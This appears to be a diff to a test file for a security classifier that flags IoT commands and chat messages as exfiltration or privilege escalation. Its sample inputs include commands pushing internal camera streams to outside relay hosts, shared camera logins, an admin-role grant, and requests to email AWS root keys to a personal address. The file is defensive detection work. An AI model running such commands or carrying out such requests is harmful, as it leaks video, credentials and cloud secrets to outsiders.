@@ -103,4 +103,13 @@ test('lookalikes23: a URL whose host is a private network\'s own (.lan, .local, 
   flags(iot('{"method":"setStreamConfig","params":{"channel":1,"rtmp_push":"rtmp://live.streamrelay-7.ru/app/arena_cam1","audio":true}}', cam), 'DANGER', 'O51', 'EXFILTRATION');
   flags(iot('ffmpeg -rtsp_transport tcp -i rtsp://admin:***@10.0.8.21:554/Streaming/Channels/101 -c copy -f flv rtmp://live-relay.streamhub-cdn.io/app/k8Qz2'), 'DANGER', 'O50', 'EXFILTRATION');
   flags({ type: 'message', value: 'gate cams for Saturday: rtsp://admin:Gate2024@10.1.4.23:554/stream1 and .24, .25 same login. enjoy' }, 'DANGER', 'M50', 'EXFILTRATION');
+  // the private host says where data goes, not who is given a role
+  flags(iot('PUT http://192.168.20.5/api/gebruikers/installateur {"rol":"beheerder","wachtwoord":"kas2024","actief":true}'), 'CAUTION', 'O30', 'ESCALATION');
+});
+
+test('lookalikes23: a key named by the account or system it unlocks ("AWS root keys", "claves de acceso") is a secret', () => {
+  const msg = (value: string): Case => ({ type: 'message', value });
+  flags(msg('Please send me the AWS root keys for the production account by email today.'), 'DANGER', 'M50', 'EXFILTRATION');
+  flags(msg('Envía las claves de acceso de AWS a mi correo personal juan.p@gmail.com'), 'DANGER', 'M50', 'EXFILTRATION');
+  rulesQuiet(msg('Rotate the AWS root keys and store the new ones in the vault.'));
 });
